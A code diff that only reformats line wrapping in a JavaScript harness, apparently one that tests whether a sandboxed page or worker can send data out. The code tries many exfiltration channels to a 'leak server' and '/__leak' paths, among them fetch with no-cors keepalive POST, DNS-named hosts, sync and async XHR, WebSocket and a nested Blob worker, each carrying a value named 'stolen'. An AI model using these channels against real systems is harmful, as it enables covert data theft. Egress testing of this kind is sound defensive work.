@@ -97,10 +97,7 @@ async function idbWrite() {
 function onceEvent(target, okEvent, failEvents) {
   return new Promise((resolve, reject) => {
     target.addEventListener(okEvent, () => resolve(okEvent), { once: true });
-    for (const name of failEvents)
-      target.addEventListener(name, (event) => reject(new Error(`${name} event${event && event.code ? ` (code ${event.code})` : ''}`)), {
-        once: true,
-      });
+    for (const name of failEvents) target.addEventListener(name, (event) => reject(new Error(`${name} event${event && event.code ? ` (code ${event.code})` : ''}`)), { once: true });
   });
 }
 
@@ -209,8 +206,7 @@ async function run(event) {
     attempt('fetch(leak server, absolute)', async () => `status ${(await fetch(leakUrl('fetch', stolen))).status}`),
     attempt(
       'fetch(leak server, no-cors keepalive POST)',
-      async () =>
-        `type ${(await fetch(leakUrl('fetch-keepalive', stolen), { method: 'POST', mode: 'no-cors', keepalive: true, body: stolen })).type}`,
+      async () => `type ${(await fetch(leakUrl('fetch-keepalive', stolen), { method: 'POST', mode: 'no-cors', keepalive: true, body: stolen })).type}`,
     ),
     attempt(
       'fetch(leak host by name, DNS)',
@@ -228,14 +224,8 @@ async function run(event) {
           ).status
         }`,
     ),
-    attempt(
-      'fetch(app origin, absolute)',
-      async () => `status ${(await fetch(`${CONFIG.appOrigin}/__leak/${CONFIG.tag}/fetch-app?data=${stolen}`)).status}`,
-    ),
-    attempt(
-      'fetch(app-relative /__leak)',
-      async () => `status ${(await fetch(`/__leak/${CONFIG.tag}/fetch-relative?data=${stolen}`)).status}`,
-    ),
+    attempt('fetch(app origin, absolute)', async () => `status ${(await fetch(`${CONFIG.appOrigin}/__leak/${CONFIG.tag}/fetch-app?data=${stolen}`)).status}`),
+    attempt('fetch(app-relative /__leak)', async () => `status ${(await fetch(`/__leak/${CONFIG.tag}/fetch-relative?data=${stolen}`)).status}`),
     attempt('XMLHttpRequest async', () => xhr(leakUrl('xhr-async', stolen), true)),
     attempt('XMLHttpRequest sync', () => xhr(leakUrl('xhr-sync', stolen), false)),
     attempt('WebSocket', () => {
@@ -268,8 +258,7 @@ async function run(event) {
       const code = `fetch(${JSON.stringify(leakUrl('nested-worker-fetch', stolen))}).then((r) => postMessage('status ' + r.status), (e) => postMessage('failed: ' + e.name + ': ' + e.message));`;
       const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
       return new Promise((resolve, reject) => {
-        worker.onmessage = (message) =>
-          String(message.data).startsWith('failed') ? reject(new Error(String(message.data))) : resolve(message.data);
+        worker.onmessage = (message) => (String(message.data).startsWith('failed') ? reject(new Error(String(message.data))) : resolve(message.data));
         worker.onerror = (error) => reject(new Error(`worker error: ${error.message}`));
       }).finally(() => worker.terminate());
     }),
